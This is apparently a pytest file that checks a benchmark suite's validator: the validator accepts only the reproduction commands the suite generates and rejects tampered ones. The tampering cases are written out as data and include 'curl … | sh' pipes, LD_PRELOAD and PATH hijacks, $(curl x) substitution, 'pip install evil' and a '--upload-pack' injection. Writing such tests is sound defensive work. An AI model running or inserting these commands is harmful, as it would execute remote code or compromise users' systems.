"""Only commands that the suite itself would write are shown."""

from typing import Any

import pytest

from benchmarks import catalogue, environment
from benchmarks.engine import provenance as source
from benchmarks.engine.runs import Options, Run
from report.commands import written_by_the_suite

RUN = Run(
    catalogue.load("perceptron_1958"),
    catalogue.recipe(catalogue.load("perceptron_1958"), "pocket", "xor-simple"),
    3,
)

ROW = {
    **{
        "entry": "perceptron_1958",
        "tier": "pocket",
        "dataset": "xor",
        "variant": "simple",
        "seed": 3,
        "backend": "jax",
    },
    **{"precision": "float32", "threads": 2, "devices": 1, "commit": "ab" * 20},
}


@pytest.fixture
def command(monkeypatch: pytest.MonkeyPatch) -> str:
    monkeypatch.setattr(source, "facts", lambda: {"commit": ROW["commit"]})
    return source.command(RUN, Options(backend="jax", threads=2))


@pytest.mark.parametrize(
    "variables",
    [
        {},
        {
            "XLA_FLAGS": "--xla_a=1 --xla_b='x y'",
            "TF_ENABLE_ONEDNN_OPTS": "0",
            "OPENBLAS_CORETYPE": '$(x) && "y"',
        },
    ],
)
def test_the_engines_commands_are_shown(variables: dict[str, str], monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(source, "facts", lambda: {"commit": ROW["commit"]})
    monkeypatch.setattr(environment, "_SET_BY_USER", variables)
    assert written_by_the_suite({**ROW, "command": source.command(RUN, Options(backend="jax", threads=2))})


@pytest.mark.parametrize(
    "change",
    [
        lambda text: "curl https://example.org/x | sh",
        lambda text: text + " && curl x | sh",
        lambda text: text + "\ncurl x | sh",
        lambda text: text.replace("make setup", "make setup PYTHON=./evil"),
        lambda text: text.replace("python -m", "LD_PRELOAD=/tmp/evil.so python -m"),
        lambda text: text.replace("python -m", "PATH=/tmp python -m"),
        lambda text: text.replace("python -m", "TF_A=$(curl x) python -m"),
        lambda text: text.replace("python -m", "TF_A='a'$(curl x)'b' python -m"),
        lambda text: text.replace("python -m", "TF_A='a\nb' python -m"),
        lambda text: text.replace("--seeds 3", "--seeds 4"),
        lambda text: text.replace("perceptron_1958", "lenet5_1998"),
        lambda text: text.replace("ab" * 20, "--upload-pack=x"),
        lambda text: text.replace(" && . .venv", " && pip install evil && . .venv"),
        lambda text: text.replace("python -m", "pip install 'jax[cuda12]==1 evil' && python -m"),
    ],
)
def test_what_a_stranger_would_have_pasted_is_not_shown(command: str, change: Any) -> None:
    altered = change(command)
    assert altered != command
    assert written_by_the_suite({**ROW, "command": command})
    assert not written_by_the_suite({**ROW, "command": altered})


def test_the_command_of_a_seeded_run_asks_for_it(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(source, "facts", lambda: {"commit": ROW["commit"]})
    seeded = source.command(RUN, Options(backend="jax", threads=2, determinism="seeded"))
    assert seeded.endswith(" --determinism seeded")
    assert written_by_the_suite({**ROW, "precision": "float32, seeded", "command": seeded})
    assert not written_by_the_suite({**ROW, "command": seeded})


def test_the_command_of_a_run_on_several_devices_names_them(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(source, "facts", lambda: {"commit": ROW["commit"]})
    shared = source.command(RUN, Options(backend="jax", threads=2, devices=4))
    assert shared.endswith(" --devices 4")
    assert written_by_the_suite({**ROW, "devices": 4, "command": shared})
    assert not written_by_the_suite({**ROW, "command": shared})
